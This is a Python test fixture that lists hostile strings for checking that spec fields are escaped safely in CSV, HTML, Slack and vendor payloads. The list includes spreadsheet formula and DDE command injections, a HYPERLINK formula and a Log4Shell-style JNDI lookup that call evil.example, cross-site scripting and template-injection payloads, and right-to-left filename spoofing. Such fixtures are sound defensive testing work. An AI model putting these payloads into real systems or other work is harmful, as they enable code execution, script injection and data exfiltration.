"""Hostile text: what a spec field (or a vendor's error) may carry into a CSV,
an HTML page, a Slack message or a vendor payload. One list for every test."""

from __future__ import annotations

HOSTILE_TEXT: tuple[str, ...] = (
    # CSV injection (OWASP): formulas, DDE, a leading tab or carriage return
    "=1+2",
    "+SUM(A1)",
    "-2+3",
    "@cmd",
    "\t=x",
    "\r=x",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "-",
    "'=already quoted",
    # HTML and templates
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "{{7*7}}",
    "{% for x in range(9) %}x{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    # text direction, Slack mentions, separators, size
    "\u202e=1+2",
    "\u202eevil\u202c txt.exe",
    "<!channel> <@U123> &amp;",
    'a,b,"c"\nnext line',
    "line one\nline two\r\nline three",
    "quote \" and ' and `",
    "a,b;c\td",
    "x" * 5000,
)
